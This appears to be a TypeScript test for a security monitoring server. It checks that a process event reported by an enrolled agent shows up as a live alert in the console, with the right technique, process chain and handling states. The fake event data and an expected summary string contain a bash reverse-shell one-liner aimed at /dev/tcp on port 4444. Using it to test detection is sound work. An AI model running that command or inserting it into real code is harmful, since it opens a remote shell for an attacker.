import assert from 'node:assert/strict'
import { test } from 'node:test'
import { until } from '../../../test/until.ts'
import { enrolAgent, TestAgent } from './testing/test-agent.ts'
import { TestConsole } from './testing/test-console.ts'
import { startTestServer } from './testing/test-server.ts'

test('an event of an agent becomes an alert that a browser sees at once, with its details', async (t) => {
  const { server, end } = await startTestServer()
  t.after(end)
  assert.ok(server.firstUser)
  assert.deepEqual(server.models, { loaded: 5, refused: 0 })
  const agent = new TestAgent(await enrolAgent(server.createEnrolmentToken().token))
  await agent.connect()
  const browser = new TestConsole(server.consoleUrl)
  await browser.begin(server.firstUser)
  const live: { name: string; data: unknown; at: number }[] = []
  const stream = await browser.stream((name, data) => live.push({ name, data, at: performance.now() }))
  await until('the banners', () => live.some((message) => message.name === 'banners'))

  const sentAt = performance.now()
  await agent.deliver(1, [agent.started(1, 'ls -l'), agent.started(2, 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')])
  await until('the alert', () => live.some((message) => message.name === 'alert.raised'))
  const raised = live.find((message) => message.name === 'alert.raised')
  assert.ok(raised)
  assert.ok(raised.at - sentAt < 1000, `${raised.at - sentAt} ms`)
  await until('the summary', () => live.filter((message) => message.name === 'summary').length > 1)

  const page = await browser.call('listAlerts', { query: 'level=Urgent&stage=Remote%20Control' })
  assert.equal(page.status, 200)
  assert.equal(page.body.total, 1)
  const row = page.body.items[0]
  assert.deepEqual(raised.data, row)
  assert.deepEqual(row.techniques, ['T1059.004'])
  assert.equal(row.asset.name, 'web-1')
  assert.deepEqual(row.asset.addresses, ['192.0.2.10'])
  const detail = (await browser.call('getAlert', { id: row.id })).body
  assert.equal(
    detail.summary,
    'bash (pid 4242, user root), started by sshd, ran bash -i >& /dev/tcp/198.51.100.7/4444 0>&1.',
  )
  assert.deepEqual(
    detail.processChain.map((process: { name: string; marked: boolean }) => [process.name, process.marked]),
    [
      ['systemd', false],
      ['sshd', false],
      ['bash', true],
    ],
  )
  assert.equal(detail.why, 'It is a test.')
  assert.equal(detail.evidence[0].id, `${agent.enrolment.assetId}/boot-1/2`)
  assert.equal(detail.operations.find((operation: { name: string }) => operation.name === 'ignore').offered, true)

  const handled = await browser.call('handleAlert', {
    id: row.id,
    body: { operation: 'handled manually', version: row.version, note: 'looked at it' },
  })
  assert.equal(handled.body.state, 'handled')
  const again = await browser.call('handleAlert', { id: row.id, body: { operation: 'ignore', version: row.version } })
  assert.deepEqual([again.status, again.body.code], [409, 'alert.changed'])
  const summary = (await browser.call('getSummary')).body
  assert.equal(summary.allAlerts.value, 0)
  assert.equal(summary.allAlerts.trend[23], 1)
  await stream.stop()
  agent.cut()
})
